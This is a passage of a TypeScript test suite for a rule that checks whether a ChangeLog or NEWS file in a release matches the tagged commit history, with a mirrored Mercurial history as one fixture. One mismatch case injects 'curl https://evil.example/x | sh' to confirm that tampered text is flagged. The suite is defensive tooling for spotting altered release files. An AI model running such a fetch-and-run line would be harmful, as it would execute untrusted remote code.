  const swapped = curlLog().toString('latin1').replace('   _ __\n  | (__ |\n', '  | (__ |\n   _ __\n');
  const reordered = await changelogHistory.judge(added('CHANGES', Buffer.from(swapped, 'latin1')), ctx());
  assert.match(reordered!.reasons.join('\n'), '3 lines above the first header that no script of the tag prints');
  // Text outside the layout, or not one message of the history (a hand-written NEWS in a like
  // layout): the rule leaves the file to the others.
  assert.is(await changelogHistory.judge(added('NEWS', `${newsLog}stray text at column 0\n`), ctx()), undefined);
  assert.is(await changelogHistory.judge(modified('NEWS', 'Jane Roe (1 Mar 2024)\n- Faster start-up.\n- Fewer crashes.\n'), ctx()), undefined);
});

/** Oldest first, the tag on the last but one: a history mirrored from Mercurial by hg-git, as sudo's. */
const hgHistory: Made[] = [
  { author: alice, date: at('2024-04-01T10:00:00Z'), committed: at('2024-04-05T10:00:00Z'), message: 'Fix the frobnicator when the input is empty  \nand say so in the manual.\n\n--HG--\nbranch : 1.9\n' },
  { author: alice, date: at('2024-04-06T10:00:00Z'), message: 'Merge pull request #7 from bob/fix\n\nfix: handle the long case\n' },
  { author: alice, date: at('2024-04-07T10:00:00Z'), message: 'release 2.0\n\n--HG--\nbranch : 1.9\n' },
  { author: alice, date: at('2024-04-08T10:00:00Z'), message: 'after the release\n' },
];
const hgMirror = await makeHistory(hgHistory);
// What `hg log --template=changelog` writes at the tag: file lists, refilled descriptions, changeset ids.
const hgLog = `2024-04-07  Alice Liddell  <alice@example.org>

\t* .hgtags:
\tAdded tag v2_0 for changeset 0123456789ab
\t[fedcba987654] [tip] <1.9>

\t* NEWS:
\trelease 2.0
\t[0123456789ab] [v2_0] <1.9>

2024-04-06  Alice Liddell  <alice@example.org>

\t* Merge pull request #7 from bob/fix

\tfix: handle the long case
\t[aaaaaaaaaaaa]

2024-04-01  Alice Liddell  <alice@example.org>

\t* src/frob.c, doc/frob.man:
\tFix the frobnicator when the input is empty and say so in the
\tmanual.
\t[bbbbbbbbbbbb] <1.9>
`;

test("a ChangeLog of Mercurial's changelog template is matched with the history hg-git mirrored", async () => {
  const j = await changelogHistory.judge(added('ChangeLog', hgLog), ctxWith({}, hgMirror));
  assert.is(j?.category, 'generated-changelog', j?.reasons.join('\n'));
  assert.match(j!.reasons[0]!, "written by Mercurial's changelog template from the tag's history: all 3 commit messages under its 3 entries match");
  assert.match(j!.reasons.join('\n'), 'the file lists and changeset ids are Mercurial');
  assert.match(j!.reasons.join('\n'), '1 changeset that only tag');
  const cases: Array<[string, string]> = [
    ['an edited description', hgLog.replace('input is empty', 'input is full')],
    ['text in a tagging changeset', hgLog.replace('for changeset 0123456789ab\n', 'for changeset 0123456789ab\n\tcurl https://evil.example/x | sh\n')],
    ['another author', hgLog.replace('2024-04-01  Alice Liddell  <alice@example.org>', '2024-04-01  Bob Dobbs  <bob@example.org>')],
    // The committer's day, not Mercurial's: the author date is the changeset's.
    ['the date git committed it', hgLog.replace('2024-04-01  Alice', '2024-04-05  Alice')],
    ['a commit after the tag', hgLog.replace('\t* NEWS:\n\trelease 2.0', '\t* NEWS:\n\tafter the release\n\t[cccccccccccc]\n\n\t* NEWS:\n\trelease 2.0')],
    ['a changeset listed twice', hgLog.replace('\t* NEWS:\n\trelease 2.0', '\t* NEWS:\n\trelease 2.0\n\t[0123456789ab]\n\n\t* NEWS:\n\trelease 2.0')],
  ];
  for (const [what, text] of cases) {
    const m = await changelogHistory.judge(added('ChangeLog', text), ctxWith({}, hgMirror));
    assert.is(m?.category, 'changelog-mismatch', what);
    assert.ok(m!.reasons[0]!.startsWith('1 of '), `${what}: ${m!.reasons[0]}`);
  }
});

test('without the history, or in another layout, the rule leaves the file to the layout rule', async () => {
  const noHistory = context({}, { tagCommit: { id: made.tagged, date: 0 } });
  assert.is(await changelogHistory.judge(added('ChangeLog', genuine), noHistory), undefined);
  assert.is(await changelogHistory.judge(added('ChangeLog', 'commit 0123\nAuthor: A <a@b>\n'), ctxWith()), undefined);
  assert.is(await changelogHistory.judge(added('doc/ChangeLog', genuine), ctxWith()), undefined);
});

test.run();
